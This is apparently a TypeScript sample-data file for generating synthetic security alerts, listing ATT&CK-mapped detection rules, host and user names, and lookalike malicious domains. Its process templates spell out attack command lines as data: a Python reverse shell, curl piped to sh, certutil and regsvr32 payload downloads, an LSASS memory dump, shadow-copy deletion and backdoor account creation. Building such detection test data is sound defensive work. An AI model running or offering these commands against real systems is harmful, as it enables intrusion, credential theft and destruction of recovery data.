/**
 * What the sample world is made of: detection rules with their MITRE ATT&CK tactic and
 * technique, the processes, domains and files they fire on, and the names hosts and users take.
 * Written to read like a Windows-heavy enterprise with some Linux servers and Macs.
 */
export type Trigger = 'process' | 'network' | 'dns' | 'file';
export type Severity = 'low' | 'medium' | 'high' | 'critical';

export interface ProcessTemplate {
  name: string;
  executable: string;
  /** `{domain}`, `{ip}`, `{user}` and `{file}` are filled from the world. */
  commandLine: string;
  parent: string;
}

export interface SampleRule {
  name: string;
  uuid: string;
  severity: Severity;
  riskScore: number;
  tactic: { id: string; name: string };
  technique: { id: string; name: string };
  trigger: Trigger;
  /** Processes the rule matches (for process, network and file triggers). */
  processes: string[];
}

export const PROCESSES: Record<string, ProcessTemplate> = {
  powershell: { name: 'powershell.exe', executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', parent: 'winword.exe' },
  cmd: { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'cmd.exe /c whoami /all && net group "Domain Admins" /domain', parent: 'explorer.exe' },
  certutil: { name: 'certutil.exe', executable: 'C:\\Windows\\System32\\certutil.exe', commandLine: 'certutil.exe -urlcache -split -f http://{domain}/update.bin C:\\Users\\Public\\{file}', parent: 'cmd.exe' },
  regsvr32: { name: 'regsvr32.exe', executable: 'C:\\Windows\\System32\\regsvr32.exe', commandLine: 'regsvr32.exe /s /n /u /i:http://{domain}/file.sct scrobj.dll', parent: 'excel.exe' },
  rundll32: { name: 'rundll32.exe', executable: 'C:\\Windows\\System32\\rundll32.exe', commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full', parent: 'cmd.exe' },
  mshta: { name: 'mshta.exe', executable: 'C:\\Windows\\System32\\mshta.exe', commandLine: 'mshta.exe http://{domain}/invoice.hta', parent: 'outlook.exe' },
  schtasks: { name: 'schtasks.exe', executable: 'C:\\Windows\\System32\\schtasks.exe', commandLine: 'schtasks.exe /create /sc onlogon /tn "OneDrive Update" /tr C:\\Users\\Public\\{file}', parent: 'powershell.exe' },
  net: { name: 'net.exe', executable: 'C:\\Windows\\System32\\net.exe', commandLine: 'net.exe user support_{user} P@ssw0rd! /add', parent: 'cmd.exe' },
  vssadmin: { name: 'vssadmin.exe', executable: 'C:\\Windows\\System32\\vssadmin.exe', commandLine: 'vssadmin.exe delete shadows /all /quiet', parent: 'cmd.exe' },
  psexec: { name: 'PsExec.exe', executable: 'C:\\Users\\Public\\PsExec.exe', commandLine: 'PsExec.exe \\\\{ip} -s -d cmd.exe /c C:\\Windows\\Temp\\{file}', parent: 'cmd.exe' },
  wmic: { name: 'WMIC.exe', executable: 'C:\\Windows\\System32\\wbem\\WMIC.exe', commandLine: 'wmic.exe /node:{ip} process call create "cmd.exe /c C:\\Windows\\Temp\\{file}"', parent: 'powershell.exe' },
  dropper: { name: 'svchost-update.exe', executable: 'C:\\Users\\Public\\svchost-update.exe', commandLine: 'C:\\Users\\Public\\svchost-update.exe --silent', parent: 'explorer.exe' },
  curl: { name: 'curl', executable: '/usr/bin/curl', commandLine: 'curl -fsSL http://{domain}/install.sh', parent: 'bash' },
  bash: { name: 'bash', executable: '/bin/bash', commandLine: "bash -c 'curl -fsSL http://{domain}/x | sh'", parent: 'sshd' },
  python: { name: 'python3', executable: '/usr/bin/python3', commandLine: 'python3 -c "import socket,os,pty;s=socket.socket();s.connect((\'{ip}\',4444));pty.spawn(\'/bin/sh\')"', parent: 'bash' },
  osascript: { name: 'osascript', executable: '/usr/bin/osascript', commandLine: 'osascript -e \'display dialog "macOS needs your password" default answer "" with hidden answer\'', parent: 'Terminal' },
  chrome: { name: 'chrome.exe', executable: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', commandLine: '"chrome.exe" --type=renderer', parent: 'explorer.exe' },
};

const rule = (
  name: string,
  uuid: string,
  severity: Severity,
  riskScore: number,
  tactic: [string, string],
  technique: [string, string],
  trigger: Trigger,
  processes: string[],
): SampleRule => ({ name, uuid, severity, riskScore, tactic: { id: tactic[0], name: tactic[1] }, technique: { id: technique[0], name: technique[1] }, trigger, processes });

const EXECUTION: [string, string] = ['TA0002', 'Execution'];
const PERSISTENCE: [string, string] = ['TA0003', 'Persistence'];
const DEFENSE_EVASION: [string, string] = ['TA0005', 'Defense Evasion'];
const CREDENTIAL_ACCESS: [string, string] = ['TA0006', 'Credential Access'];
const DISCOVERY: [string, string] = ['TA0007', 'Discovery'];
const LATERAL_MOVEMENT: [string, string] = ['TA0008', 'Lateral Movement'];
const COMMAND_AND_CONTROL: [string, string] = ['TA0011', 'Command and Control'];
const IMPACT: [string, string] = ['TA0040', 'Impact'];

export const RULES: SampleRule[] = [
  rule('Suspicious PowerShell Encoded Command', '0f4ec7e1-3a5e-4c61-9b1e-2b5fb2f1a101', 'high', 73, EXECUTION, ['T1059.001', 'PowerShell'], 'process', ['powershell']),
  rule('Microsoft Office Child Process', 'a624863f-a70d-417f-a7d2-7a404638d47f', 'medium', 47, EXECUTION, ['T1204.002', 'Malicious File'], 'process', ['powershell', 'regsvr32', 'mshta']),
  rule('Remote File Download via Certutil', '1a6b0f3e-9c8e-4c5c-8a3e-5d2b7f1c0b02', 'medium', 47, COMMAND_AND_CONTROL, ['T1105', 'Ingress Tool Transfer'], 'process', ['certutil', 'curl']),
  rule('Signed Binary Proxy Execution via Regsvr32', '5db7c8a1-6f2e-4b8d-9a3c-7e1f0d2c3b03', 'high', 73, DEFENSE_EVASION, ['T1218.010', 'Regsvr32'], 'process', ['regsvr32', 'mshta']),
  rule('LSASS Memory Dump via Comsvcs DLL', '7c1f2e3d-4b5a-4c6d-8e9f-0a1b2c3d4b04', 'critical', 99, CREDENTIAL_ACCESS, ['T1003.001', 'LSASS Memory'], 'process', ['rundll32']),
  rule('Scheduled Task Created for Persistence', '2e3f4a5b-6c7d-4e8f-9a0b-1c2d3e4f5b05', 'medium', 47, PERSISTENCE, ['T1053.005', 'Scheduled Task'], 'process', ['schtasks']),
  rule('User Account Creation', '3f4a5b6c-7d8e-4f9a-8b1c-2d3e4f5a6b06', 'low', 21, PERSISTENCE, ['T1136.001', 'Local Account'], 'process', ['net']),
  rule('Volume Shadow Copy Deletion', '4a5b6c7d-8e9f-4a0b-9c2d-3e4f5a6b7c07', 'critical', 99, IMPACT, ['T1490', 'Inhibit System Recovery'], 'process', ['vssadmin']),
  rule('Lateral Movement via PsExec', '5b6c7d8e-9f0a-4b1c-8d3e-4f5a6b7c8d08', 'high', 73, LATERAL_MOVEMENT, ['T1569.002', 'Service Execution'], 'network', ['psexec', 'wmic']),
  rule('Enumeration of Domain Admins', '6c7d8e9f-0a1b-4c2d-9e4f-5a6b7c8d9e09', 'low', 21, DISCOVERY, ['T1069.002', 'Domain Groups'], 'process', ['cmd']),
  rule('Connection to Known Malicious IP', '7d8e9f0a-1b2c-4d3e-8f5a-6b7c8d9e0f10', 'high', 73, COMMAND_AND_CONTROL, ['T1071.001', 'Web Protocols'], 'network', ['powershell', 'dropper', 'python']),
  rule('DNS Query to Newly Registered Domain', '8e9f0a1b-2c3d-4e4f-9a6b-7c8d9e0f1a11', 'medium', 47, COMMAND_AND_CONTROL, ['T1568', 'Dynamic Resolution'], 'dns', ['chrome', 'powershell', 'curl']),
  rule('Executable File Written to Public Folder', '9f0a1b2c-3d4e-4f5a-8b7c-8d9e0f1a2b12', 'medium', 47, DEFENSE_EVASION, ['T1036', 'Masquerading'], 'file', ['certutil', 'chrome', 'powershell']),
  rule('Ransomware Behavior Detected', 'a0b1c2d3-e4f5-4a6b-9c8d-9e0f1a2b3c13', 'critical', 99, IMPACT, ['T1486', 'Data Encrypted for Impact'], 'file', ['dropper']),
  rule('Reverse Shell via Python', 'b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d14', 'high', 73, EXECUTION, ['T1059.006', 'Python'], 'network', ['python', 'bash']),
  rule('Credential Prompt via Osascript', 'c2d3e4f5-a6b7-4c8d-9e0f-1a2b3c4d5e15', 'medium', 47, CREDENTIAL_ACCESS, ['T1056.002', 'GUI Input Capture'], 'process', ['osascript']),
];

export const HOST_PREFIXES = ['WIN-FIN', 'WIN-HR', 'WIN-ENG', 'WIN-SALES', 'WIN-IT', 'srv-db', 'srv-web', 'srv-app', 'dc', 'mac'] as const;

export const FIRST_NAMES = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'nina', 'oscar', 'peggy', 'rupert', 'sybil', 'trent', 'victor', 'walter', 'yara'] as const;
export const LAST_NAMES = ['johnson', 'smith', 'nguyen', 'garcia', 'muller', 'rossi', 'kowalski', 'tanaka', 'okafor', 'silva', 'dubois', 'larsen'] as const;
export const SERVICE_ACCOUNTS = ['SYSTEM', 'root', 'svc_backup', 'svc_sql', 'administrator'] as const;

export const MALICIOUS_DOMAINS = ['update-msft-cdn.com', 'login-office365-secure.net', 'cdn-jsdelivr-static.org', 'invoice-portal.xyz', 'a1b2c3.ngrok.io', 'files-dropbox-share.top'] as const;
export const BENIGN_DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'slack.com', 'github.com', 'api.zoom.us', 'raw.githubusercontent.com'] as const;
export const EXTERNAL_NETWORKS = ['185.220.101', '45.155.205', '91.240.118', '103.75.201', '194.26.29', '5.188.86'] as const;

export const OS_BY_PREFIX: Record<(typeof HOST_PREFIXES)[number], { name: string; family: string; version: string }> = {
  'WIN-FIN': { name: 'Windows 11 Pro', family: 'windows', version: '23H2' },
  'WIN-HR': { name: 'Windows 10 Enterprise', family: 'windows', version: '22H2' },
  'WIN-ENG': { name: 'Windows 11 Enterprise', family: 'windows', version: '23H2' },
  'WIN-SALES': { name: 'Windows 11 Pro', family: 'windows', version: '22H2' },
  'WIN-IT': { name: 'Windows 11 Enterprise', family: 'windows', version: '23H2' },
  'srv-db': { name: 'Ubuntu', family: 'debian', version: '22.04' },
  'srv-web': { name: 'Ubuntu', family: 'debian', version: '22.04' },
  'srv-app': { name: 'Red Hat Enterprise Linux', family: 'redhat', version: '9.3' },
  dc: { name: 'Windows Server 2022 Datacenter', family: 'windows', version: '21H2' },
  mac: { name: 'macOS', family: 'darwin', version: '14.4' },
};
